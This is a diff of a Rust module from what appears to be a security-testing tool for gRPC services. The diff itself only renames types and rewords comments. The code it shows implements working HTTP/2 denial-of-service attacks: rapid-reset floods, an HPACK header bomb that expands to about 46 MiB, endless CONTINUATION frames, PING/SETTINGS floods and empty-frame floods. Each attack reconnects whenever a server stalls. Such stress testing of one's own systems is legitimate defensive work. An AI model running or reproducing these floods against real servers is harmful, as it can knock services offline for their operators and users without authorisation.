@@ -1,19 +1,19 @@
-//! HTTP/2 frames that no client sends: resets, bombs of headers, floods.
+//! HTTP/2 frames that no client sends: resets, header bombs, floods.
 
 use std::io;
 use std::sync::Arc;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, WriteHalf};
 
-use super::{Attack, Breach, CONNECT_TIME_MAX, Scene, attack, unless_stalled};
-use crate::target::Kind;
+use super::{Attack, AttackContext, Breach, CONNECT_TIME_MAX, attack, unless_stalled};
+use crate::target::TargetKind;
 use crate::wire::http2::{
     self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
 };
-use crate::wire::rma::Wire;
+use crate::wire::rma::ByteStream;
 use crate::wire::{dial, tls};
 
-const GRPC: &[Kind] = &[Kind::Gateway, Kind::Orderer, Kind::Kv];
+const GRPC: &[TargetKind] = &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv];
 
 pub fn attacks() -> Vec<Attack> {
     vec![
@@ -25,14 +25,14 @@ pub fn attacks() -> Vec<Attack> {
     ]
 }
 
-/// What one connection sends before it is replaced.
+/// Frames that one connection sends before it is replaced.
 const FRAMES_PER_CONNECTION: u64 = 20_000;
-/// Frames that are written at once.
+/// Frames that are written together.
 const BATCH: u32 = 50;
 
-/// Repeatedly sends the bytes that `batch` makes, over one connection after the other. A batch counts `units` units.
+/// Repeatedly sends the bytes that `batch` returns, over one connection after another. A batch counts as `units` units.
 async fn flood(
-    scene: Arc<Scene>,
+    scene: Arc<AttackContext>,
     units: f64,
     begin: impl Fn() -> Vec<u8>,
     batch: impl Fn(u64) -> Vec<u8>,
@@ -61,7 +61,7 @@ async fn flood(
                 return Ok(None);
             }
             let bytes = batch(number);
-            // A server that takes nothing more has stopped this connection; another one takes its place.
+            // If the server takes no more, it has stopped this connection; another one replaces it.
             is_open = is_open && unless_stalled(send(&mut writer, &bytes)).await.is_ok();
             if !is_open {
                 reading.abort();
@@ -73,12 +73,12 @@ async fn flood(
     }
 }
 
-async fn send(writer: &mut WriteHalf<Box<dyn Wire>>, bytes: &[u8]) -> io::Result<()> {
+async fn send(writer: &mut WriteHalf<Box<dyn ByteStream>>, bytes: &[u8]) -> io::Result<()> {
     writer.write_all(bytes).await?;
     writer.flush().await
 }
 
-async fn connect(scene: &Scene) -> io::Result<Box<dyn Wire>> {
+async fn connect(scene: &AttackContext) -> io::Result<Box<dyn ByteStream>> {
     let socket = dial(&scene.port.address).await?;
     Ok(match scene.target.grpc_tls(None)? {
         Some(config) => Box::new(tls::connect(&config, socket).await?),
@@ -86,12 +86,12 @@ async fn connect(scene: &Scene) -> io::Result<Box<dyn Wire>> {
     })
 }
 
-/// The number of a batch's stream, odd as a client's are.
+/// The number of a batch's stream; odd, as a client's are.
 fn stream(batch: u64, place: u32) -> u32 {
     ((batch as u32) * BATCH + place) * 2 + 1
 }
 
-async fn rapid_reset(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn rapid_reset(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let call = http2::call("/gateway.Gateway/Evaluate");
     let batch = move |number| {
         let pairs = (0..BATCH).flat_map(|place| {
@@ -103,7 +103,7 @@ async fn rapid_reset(scene: Arc<Scene>) -> io::Result<Breach> {
     flood(scene, f64::from(BATCH), Vec::new, batch, true).await
 }
 
-async fn header_bomb(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn header_bomb(scene: Arc<AttackContext>) -> io::Result<Breach> {
     // One header of 3,900 bytes in the table, then 12,000 references to it of a byte each: 46 MiB when unpacked.
     let begin = || {
         let block = [http2::call("/gateway.Gateway/Evaluate"), http2::indexed("x", &[b'x'; 3_900])].concat();
@@ -116,14 +116,14 @@ async fn header_bomb(scene: Arc<Scene>) -> io::Result<Breach> {
     flood(scene, 1.0, begin, batch, true).await
 }
 
-async fn endless_headers(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn endless_headers(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let begin = || frame(HEADERS, 0, 1, &http2::call("/gateway.Gateway/Evaluate"));
     let field = [vec![0], vec![1, b'x'], vec![127, 0x81, 0x7e], vec![b'x'; 127 + 0x3f01]].concat();
     let batch = move |_| frame(CONTINUATION, 0, 1, &field);
     flood(scene, 1.0, begin, batch, true).await
 }
 
-async fn pings(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn pings(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let batch = |_| {
         let pairs = (0..BATCH / 2).flat_map(|_| [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])]);
         pairs.flatten().collect()
@@ -131,11 +131,11 @@ async fn pings(scene: Arc<Scene>) -> io::Result<Breach> {
     flood(scene, f64::from(BATCH), Vec::new, batch, false).await
 }
 
-async fn empty_frames(scene: Arc<Scene>) -> io::Result<Breach> {
+async fn empty_frames(scene: Arc<AttackContext>) -> io::Result<Breach> {
     let begin = || frame(HEADERS, END_HEADERS, 1, &http2::call("/protos.Deliver/Deliver"));
     let batch = |number| {
         let mut frames: Vec<u8> = (0..BATCH - 1).flat_map(|_| frame(DATA, 0, 1, &[])).collect();
-        // Now and then a stream that ends, so that the connection does something.
+        // Now and then one stream ends, so that the connection makes progress.
         let stream = stream(number, 2);
         frames.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &http2::call("/protos.Deliver/Deliver")));
         frames
